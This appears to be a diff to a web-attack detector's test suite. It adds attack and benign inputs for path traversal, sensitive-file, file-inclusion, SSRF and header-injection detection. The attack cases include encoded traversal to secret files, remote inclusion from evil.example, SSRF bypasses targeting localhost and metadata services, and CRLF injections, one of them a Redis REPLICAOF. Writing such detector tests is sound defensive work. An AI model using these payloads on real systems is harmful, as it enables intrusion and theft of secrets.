@@ -2,6 +2,9 @@ import { describeDetector } from './detector-cases';
 
 describeDetector('path_traversal', {
   attacks: [
+    { text: '%c0%ae%c0%ae/%c0%ae%c0%ae/secret.yml', source: 'body', name: 'file' },
+    { text: '....//....//....//config.yml', source: 'body', name: 'file' },
+    { text: 'file/../../../x.sqlite\0.png', source: 'body', name: 'file' },
     '../../../secret',
     '..\\..\\..\\secret',
     '....//....//etc/hosts',
@@ -41,6 +44,8 @@ describeDetector('path_traversal', {
 
 describeDetector('sensitive_file', {
   attacks: [
+    '/tmp/sess_abcdef0123456789',
+    '/run/secrets/db_password',
     '/etc/passwd',
     '/etc/ssh/sshd_config',
     '/proc/self/environ',
@@ -58,6 +63,8 @@ describeDetector('sensitive_file', {
     { text: '/etc/shadow', source: 'body', name: 'template' },
   ],
   benign: [
+    '/tmp/upload_123.png',
+    '/run/media/disk',
     '/api/v1/users',
     'passwd',
     '/home',
@@ -75,6 +82,10 @@ describeDetector('sensitive_file', {
 
 describeDetector('file_inclusion', {
   attacks: [
+    { text: '//evil.example/x.php?', name: 'page' },
+    { text: '\\\\192.0.2.7\\share\\x.php', source: 'body', name: 'page' },
+    'classpath:application.properties',
+    'res://ieframe.dll/x',
     'php://filter/convert.base64-encode/resource=index.php',
     'php://input',
     'expect://id',
@@ -89,6 +100,7 @@ describeDetector('file_inclusion', {
     { text: 'http://evil.example/a.png\0', name: 'q' },
   ],
   benign: [
+    { text: '\\\\fileserver\\team\\plan.docx', source: 'body', name: 'path' },
     { text: 'https://example.com/', name: 'url' },
     { text: 'https://example.com/index.php?id=3', name: 'redirect' },
     { text: 'https://example.com/a/b.txt', name: 'link' },
@@ -104,6 +116,18 @@ describeDetector('file_inclusion', {
 
 describeDetector('ssrf', {
   attacks: [
+    { text: 'http://7f000001.nip.io/', name: 'url' },
+    { text: 'http://a9fea9fe.nip.io', name: 'url' },
+    { text: 'http://foo.localtest.me:8080', name: 'url' },
+    { text: 'http:127.0.0.1', name: 'url' },
+    { text: 'http:/\\127.0.0.1', name: 'url' },
+    { text: 'http://host.docker.internal:2375', name: 'url' },
+    { text: '127.0.0.1:8080/manager', name: 'url' },
+    { text: 'http://1.1.1.1 &@127.0.0.1# @3.3.3.3/', name: 'url' },
+    { text: 'http://evil.example?@127.0.0.1/', name: 'url' },
+    { text: 'jdbc:mysql://evil.example:3306/x?autoDeserialize=true', name: 'url' },
+    { text: 'http://consul.service.consul:8500', name: 'url' },
+    { text: 'mongodb://127.0.0.1:27017', name: 'url' },
     { text: 'http://127.0.0.1/admin', name: 'url' },
     { text: 'http://localhost:8080/', name: 'url' },
     { text: 'http://127.1/', name: 'url' },
@@ -129,6 +153,12 @@ describeDetector('ssrf', {
     { text: 'http://100.100.100.200/latest/', source: 'body', name: 'image' },
   ],
   benign: [
+    { text: 'https://example.com/@user/post', name: 'url' },
+    { text: 'https://example.com/?email=me@example.org', name: 'url' },
+    { text: 'https://consul.io/docs', name: 'url' },
+    { text: 'mongodb+srv://u:p@cluster0.abcde.mongodb.net/x', name: 'url' },
+    { text: 'jdbc:postgresql://db.example.com:5432/app?ssl=true', name: 'url' },
+    { text: '127.0.0.1:8081', source: 'body', name: 'server_ip' },
     { text: 'https://example.com/', name: 'url' },
     { text: 'https://example.com:8443/a?b=c', name: 'url' },
     { text: 'http://8.8.8.8/', name: 'url' },
@@ -146,6 +176,14 @@ describeDetector('ssrf', {
 
 describeDetector('header_injection', {
   attacks: [
+    'x%E5%98%8A%E5%98%8DSet-Cookie:x',
+    'x\r\n\r\n<html>',
+    'x\u2028Set-Cookie: b',
+    'x\\r\\nSet-Cookie: a=b',
+    'x\r\nREPLICAOF 192.0.2.7 6379',
+    'x\r\nETag: x',
+    '1 LOGOUT\r\n2 SELECT INBOX',
+    { text: 'x\r\nStrict-Transport-Security: max-age=0', source: 'body', name: 'email' },
     'x\r\nSet-Cookie: a=b',
     'x%0d%0aLocation: //evil.example',
     'x\nContent-Length: 0\n\nHTTP/1.1 200 OK',
@@ -160,6 +198,11 @@ describeDetector('header_injection', {
     { text: 'x\r\nSet-Cookie: a=b', source: 'cookie', name: 'lang' },
   ],
   benign: [
+    'Notes\nVary: colours\nPragma: none',
+    'Ingredients:\n1 select eggs\n2 fetch milk',
+    '\u010caj: 2 kn',
+    'C:\\repos\\new: done',
+    'pattern \\r\\n is CRLF: fine',
     'first line\nsecond line',
     'Dear Bob,\r\n\r\nthank you.\r\n\r\nRegards',
     'HTTP/2 is fast',
